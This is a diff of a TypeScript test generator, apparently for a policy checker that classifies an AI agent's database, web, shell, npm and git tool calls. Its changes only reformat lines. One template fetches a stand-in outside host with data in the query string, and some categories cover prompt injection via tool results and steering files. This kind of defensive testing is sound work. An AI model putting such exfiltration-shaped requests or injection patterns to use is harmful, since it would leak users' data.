@@ -29,28 +29,21 @@ const statement = (text: string) => callOfTool("sql", { statement: text, environ
 const fetched = (url: string) => callOfTool("WebFetch", { url });
 
 export const sqlExamples = (): readonly Example[] => [
-  ...[...boundaryRows(), ...changeRows()].flatMap((row) =>
-    examplesOf(`statement ${row.starts}`, row, { action: statement }),
-  ),
+  ...[...boundaryRows(), ...changeRows()].flatMap((row) => examplesOf(`statement ${row.starts}`, row, { action: statement })),
   ...callRows().flatMap((row) => examplesOf(`function ${row.names[0]}`, row, { action: statement })),
   ...clientRows().flatMap((row) => examplesOf(`client ${row.tool} ${row.shape}`, row, { action: statement })),
   ...mongoRows().flatMap((row) =>
-    examplesOf(`mongo ${row.names[0]}`, row, {
-      action: (script) => bash(`mongosh mongodb://localhost/shop --eval ${quoteWord(script)}`),
-    }),
+    examplesOf(`mongo ${row.names[0]}`, row, { action: (script) => bash(`mongosh mongodb://localhost/shop --eval ${quoteWord(script)}`) }),
   ),
   ...redisRows().flatMap((row) =>
-    examplesOf(`redis ${row.commands[0]}`, row, {
-      action: (words) => bash(`redis-cli ${words.split(" ").map(quoteWord).join(" ")}`),
-    }),
+    examplesOf(`redis ${row.commands[0]}`, row, { action: (words) => bash(`redis-cli ${words.split(" ").map(quoteWord).join(" ")}`) }),
   ),
 ];
 
 export const netExamples = (): readonly Example[] => [
   ...hostRows().flatMap((row) =>
     examplesOf(`address ${row.name}`, row, {
-      action: (text) =>
-        row.changing ? callOfTool("WebFetch", { url: `https://${text}`, method: "POST" }) : fetched(`https://${text}`),
+      action: (text) => (row.changing ? callOfTool("WebFetch", { url: `https://${text}`, method: "POST" }) : fetched(`https://${text}`)),
     }),
   ),
   ...storeRows().flatMap((row) =>
@@ -64,9 +57,7 @@ export const netExamples = (): readonly Example[] => [
   ...verbRows().flatMap((row) =>
     examplesOf(`verb ${row.why}`, row, { action: (verb) => fetched(`https://shop.example/api/users/${verb}`) }),
   ),
-  ...shapeRows().flatMap((row) =>
-    examplesOf(`shape ${row.name}`, row, { action: (text) => fetched(`https://other.example/?d=${text}`) }),
-  ),
+  ...shapeRows().flatMap((row) => examplesOf(`shape ${row.name}`, row, { action: (text) => fetched(`https://other.example/?d=${text}`) })),
 ];
 
 /** A path is asked about in each way that a path can be touched. */
@@ -79,9 +70,7 @@ export const fileExamples = (): readonly Example[] =>
 
 export const textExamples = (): readonly Example[] => [
   ...[...injectionRows(), ...sequences.map((row) => ({ ...row, kind: "terminal" }))].flatMap((row) =>
-    examplesOf(`${row.kind}: ${row.why}`, row, {
-      action: (content) => callOfTool("tool_result", { content, source: "Bash:cat notes" }),
-    }),
+    examplesOf(`${row.kind}: ${row.why}`, row, { action: (content) => callOfTool("tool_result", { content, source: "Bash:cat notes" }) }),
   ),
 ];
 
@@ -99,15 +88,9 @@ export const shellExamples = (): readonly Example[] => [
       facts: piped,
     }),
   ),
-  ...steeringRows().flatMap((row) =>
-    examplesOf(`steered by ${row.files.split(" ")[0]}`, row, { action: bash, facts: attended }),
-  ),
-  ...runningNames.flatMap((row) =>
-    examplesOf(`variable ${row.names}`, row, { action: (text) => bash(`export ${text}`) }),
-  ),
-  ...targetTable.flatMap((row) =>
-    examplesOf(`task ${row.act}`, row, { action: (name) => bash(`npm run ${quoteWord(name)}`) }),
-  ),
+  ...steeringRows().flatMap((row) => examplesOf(`steered by ${row.files.split(" ")[0]}`, row, { action: bash, facts: attended })),
+  ...runningNames.flatMap((row) => examplesOf(`variable ${row.names}`, row, { action: (text) => bash(`export ${text}`) })),
+  ...targetTable.flatMap((row) => examplesOf(`task ${row.act}`, row, { action: (name) => bash(`npm run ${quoteWord(name)}`) })),
   ...configKeys().flatMap((row) =>
     examplesOf(`git config, ${row.governs}`, row, { action: (key) => bash(`git config ${quoteWord(key)} ./x`) }),
   ),
